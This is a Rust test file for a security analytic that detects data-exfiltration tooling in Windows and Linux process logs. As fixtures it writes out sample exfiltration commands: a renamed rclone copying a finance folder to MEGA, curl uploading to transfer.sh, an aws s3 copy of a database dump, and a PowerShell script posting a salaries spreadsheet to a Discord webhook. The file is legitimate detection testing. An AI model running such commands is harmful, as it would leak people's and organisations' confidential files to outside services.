//! The upload-tooling analytic over normalized events: Windows and Linux
//! process starts, renamed tools, destinations named from the catalog, and
//! no alert for downloads or other events.

use outflow_analytics::upload_tooling::{UploadToolAnalytic, ID};
use outflow_detect::Finding;
use outflow_event::{Event, LogSource, Origin, Position, SourceKind, Value};
use outflow_intel::Intel;
use std::sync::Arc;

fn process_event(product: &str, fields: &[(&str, &str)]) -> Event {
    let mut ev = Event::new(
        SourceKind::WinJson,
        Origin {
            file: Arc::from("events.jsonl"),
            position: Position::Line(3),
        },
        "{}",
    );
    for (k, v) in fields {
        ev.push_str(Arc::from(*k), v);
    }
    ev.logsources = Arc::from(vec![LogSource {
        product: Some(Arc::from(product)),
        category: Some(Arc::from("process_creation")),
        service: None,
    }]);
    let image = ev.get("Image").cloned();
    ev.entity.image = image;
    let ofn = ev.get("OriginalFileName").cloned();
    ev.entity.original_file_name = ofn;
    ev
}

fn run(ev: &Event) -> Vec<Finding> {
    let analytic = UploadToolAnalytic::new(Arc::new(Intel::builtin().unwrap()));
    let mut out = Vec::new();
    analytic.process(ev, &mut out);
    out
}

#[test]
fn a_renamed_rclone_is_recognised_by_its_original_file_name() {
    let ev = process_event(
        "windows",
        &[
            ("Image", r"C:\Users\Public\svchost32.exe"),
            ("OriginalFileName", "rclone.exe"),
            (
                "CommandLine",
                r#"svchost32.exe copy "C:\Users\alice\Documents\Finance" mega:backup --transfers 8"#,
            ),
        ],
    );
    let found = run(&ev);
    assert_eq!(found.len(), 1);
    let f = &found[0];
    assert_eq!(f.rule.id, ID);
    assert_eq!(f.rule.source, "analytic");
    assert_eq!(f.rule.level, "high");
    assert_eq!(f.fields["tool"], "rclone");
    assert_eq!(f.fields["renamed"], "true");
    assert_eq!(f.fields["risk"], "9");
    assert_eq!(
        f.destination.as_ref().and_then(|d| d.target.as_deref()),
        Some("mega:backup")
    );
    assert_eq!(f.origin.as_ref().unwrap().position, Position::Line(3));
}

#[test]
fn curl_upload_names_the_service_and_its_technique() {
    let ev = process_event(
        "windows",
        &[
            ("Image", r"C:\Windows\System32\curl.exe"),
            (
                "CommandLine",
                "curl.exe -s -T C:\\tmp\\a.zip https://transfer.sh/a.zip",
            ),
        ],
    );
    let found = run(&ev);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].fields["tool"], "curl");
    assert!(
        found[0].fields.contains_key("service"),
        "{:?}",
        found[0].fields
    );
    assert!(
        found[0].attack[0].starts_with("T1567"),
        "{:?}",
        found[0].attack
    );
}

#[test]
fn auditd_arguments_are_used_as_they_were_executed() {
    let mut ev = process_event("linux", &[("exe", "/usr/bin/aws")]);
    for (i, a) in [
        "aws",
        "--profile",
        "x",
        "s3",
        "cp",
        "/srv/dump.sql",
        "s3://backup-x7-archive/dump.sql",
    ]
    .iter()
    .enumerate()
    {
        ev.push_str(Arc::from(format!("a{i}").as_str()), a);
    }
    ev.push(Arc::from("argc"), Value::Int(7));
    let found = run(&ev);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].fields["tool"], "aws_cli");
    assert_eq!(found[0].attack, ["T1567.002"]);
}

#[test]
fn downloads_and_other_events_raise_nothing() {
    let download = process_event(
        "windows",
        &[
            ("Image", r"C:\Windows\System32\curl.exe"),
            (
                "CommandLine",
                "curl.exe -o out.zip https://example.com/a.zip",
            ),
        ],
    );
    assert!(run(&download).is_empty());
    let mut network = process_event(
        "windows",
        &[
            ("Image", r"C:\x\rclone.exe"),
            ("CommandLine", "rclone copy a mega:b"),
        ],
    );
    network.logsources = Arc::from(vec![LogSource {
        product: Some(Arc::from("windows")),
        category: Some(Arc::from("network_connection")),
        service: None,
    }]);
    assert!(run(&network).is_empty());
}

#[test]
fn a_powershell_script_block_that_posts_a_file_to_a_webhook() {
    let mut ev = process_event(
        "windows",
        &[(
            "ScriptBlockText",
            "$f = Get-Item 'C:\\Users\\d\\salaries.xlsx'\nInvoke-RestMethod -Uri 'https://discord.com/api/webhooks/1/abc' -Method Post -InFile $f.FullName",
        )],
    );
    ev.logsources = Arc::from(vec![LogSource {
        product: Some(Arc::from("windows")),
        category: Some(Arc::from("ps_script")),
        service: Some(Arc::from("powershell")),
    }]);
    let found = run(&ev);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].fields["tool"], "powershell");
    assert_eq!(found[0].attack, ["T1567.004"], "{:?}", found[0].fields);
    // A script that only downloads raises nothing.
    let mut dl = ev.clone();
    dl.fields.clear();
    dl.push_str(
        Arc::from("ScriptBlockText"),
        "Invoke-WebRequest -Uri https://example.com/a.zip -OutFile a.zip",
    );
    assert!(run(&dl).is_empty());
}

#[test]
fn uploads_to_what_the_policy_sanctions_raise_nothing() {
    let policy = outflow_intel::Policy::from_yaml(
        "policy.yml",
        "sanctioned:\n  buckets: [corp-example-backups]\n  domains: [\"files.corp.example\"]\n",
    )
    .unwrap();
    let analytic =
        UploadToolAnalytic::new(Arc::new(Intel::builtin().unwrap())).with_policy(Arc::new(policy));
    let run_with = |cmd: &str| {
        let ev = process_event("linux", &[("exe", "/usr/bin/aws"), ("CommandLine", cmd)]);
        let mut out = Vec::new();
        analytic.process(&ev, &mut out);
        out.len()
    };
    assert_eq!(
        run_with("aws s3 sync /var/backups s3://corp-example-backups/srv-git-01/"),
        0
    );
    assert_eq!(
        run_with("aws s3 sync /var/backups s3://backup-x7-archive/srv-git-01/"),
        1
    );
    assert_eq!(
        run_with("curl -T a.zip https://files.corp.example/drop/a.zip"),
        0
    );
    assert_eq!(run_with("curl -T a.zip https://transfer.sh/a.zip"), 1);
}
